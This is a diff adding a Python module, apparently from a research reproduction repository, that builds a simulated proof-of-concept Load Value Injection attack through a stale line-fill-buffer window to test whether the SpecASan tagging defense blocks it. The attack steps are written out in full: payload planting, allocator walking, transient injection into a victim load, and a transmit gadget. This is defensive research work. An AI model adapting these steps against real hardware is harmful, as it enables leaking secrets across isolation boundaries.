@@ -1,0 +1,106 @@
+"""Load Value Injection (§6 discussion) — the buffer-injection flavour.
+
+LVI inverts MDS: instead of the attacker *sampling* stale buffer contents,
+the attacker *plants* a value that a victim's load transiently consumes,
+hijacking the victim's own (fully authorized) dataflow.  Here the injection
+vector is the stale Line-Fill Buffer window: the attacker parks its payload
+in an LFB entry, walks the allocator so the victim's next miss reuses that
+entry, and the victim's line-crossing load transiently receives the
+attacker's index instead of its own.  The victim then dereferences its own
+table at the injected index and innocently transmits the result.
+
+§6's claim, reproduced here: because SpecASan validates *all* speculative
+accesses to microarchitectural buffers against the allocation tags stored
+in them, the injected (attacker-tagged) stale data never reaches the victim
+— "ensuring that speculative execution operates only on safe and validated
+data".  Register-targeted LVI variants, which involve no tagged resource,
+remain out of scope (also per §6).
+"""
+
+from __future__ import annotations
+
+from repro.attacks.common import (
+    AttackProgram,
+    emit_transmit,
+    make_probe_array,
+    PROBE_BASE,
+    SECRET_BASE,
+    TAG_SECRET,
+)
+from repro.isa.builder import ProgramBuilder
+from repro.mte.tags import with_key
+
+#: The index the attacker injects, and the victim-table entry it exposes.
+INJECTED_INDEX = 11
+SECRET_VALUE = 11
+BENIGN_VALUE = 1
+
+ATTACKER_LINE = 0x0C0000          # attacker's payload line (attacker tag)
+VICTIM_VAR = 0x0D0000             # the victim variable the load targets
+DUMMY_BASE = 0x0E0000
+TAG_ATTACKER = 0x2
+#: Line offset of the victim's variable — high enough that the 8-byte load
+#: crosses the line (the microcode-assist trigger).
+VAR_OFFSET = 60
+
+
+def build(variant: str = "classic") -> AttackProgram:
+    """Construct the LVI PoC."""
+    if variant != "classic":
+        raise ValueError(f"unknown lvi variant {variant!r}")
+    b = ProgramBuilder()
+
+    # Attacker payload line: the injected index sits where the victim's
+    # crossing load will sample it.
+    payload = bytearray(64)
+    payload[VAR_OFFSET] = INJECTED_INDEX
+    b.bytes_segment("payload", ATTACKER_LINE, bytes(payload),
+                    tag=TAG_ATTACKER)
+    # Victim state: the variable (legitimately 0) and the private table —
+    # the secret lives at the injected index.
+    var_line = bytearray(64)
+    b.bytes_segment("victim_var", VICTIM_VAR, bytes(var_line), tag=TAG_SECRET)
+    table = bytearray(16)
+    table[0] = BENIGN_VALUE
+    table[INJECTED_INDEX] = SECRET_VALUE
+    b.bytes_segment("secret", SECRET_BASE, bytes(table), tag=TAG_SECRET)
+    make_probe_array(b)
+
+    b.li("X3", PROBE_BASE)
+    # 0. The victim's table is hot (it is the victim's working data).
+    b.li("X2", with_key(SECRET_BASE, TAG_SECRET))
+    b.ldrb("X7", "X2", note="victim's table is warm")
+    b.sb(note="wait for the warm-up fill")
+    # 1. Attacker parks its payload in the LFB (entry 0).
+    b.li("X20", with_key(ATTACKER_LINE, TAG_ATTACKER))
+    b.ldrb("X21", "X20", note="attacker primes the LFB with its payload")
+
+    # 2. Walk the LFB allocator so the victim's miss reuses that entry.
+    for index in range(15):
+        b.li("X16", DUMMY_BASE + index * 4096)
+        b.ldr("X17", "X16", note="LFB-walking dummy miss")
+
+    # 3. Delay until the payload fill has landed, without touching caches.
+    b.udiv("X13", "X21", "X21", note="delay chain")
+    b.udiv("X13", "X13", "X13")
+    b.and_("X13", "X13", "XZR")
+
+    # 4. The victim's own code: a line-crossing load of its variable,
+    #    then a table lookup and a (legitimate) dependent access.  All
+    #    pointers carry the victim's key — every tag check passes on the
+    #    architectural path.
+    b.li("X22", with_key(VICTIM_VAR + VAR_OFFSET, TAG_SECRET))
+    b.add("X22", "X22", "X13")
+    b.ldr("X18", "X22", note="victim touch: allocates the stale LFB entry")
+    b.ldr("X5", "X22", note="victim load: transiently INJECTED by attacker")
+    b.and_("X5", "X5", imm=0xFF)
+    b.ldrb("X6", "X2", rm="X5", note="victim table lookup at injected index")
+    emit_transmit(b, "X6", "X3")
+    b.halt()
+
+    return AttackProgram(
+        name="lvi", variant=variant,
+        builder_program=b.build(),
+        secret_value=SECRET_VALUE, secret_address=SECRET_BASE,
+        benign_values=[BENIGN_VALUE],
+        description="load value injection through the stale-LFB window")
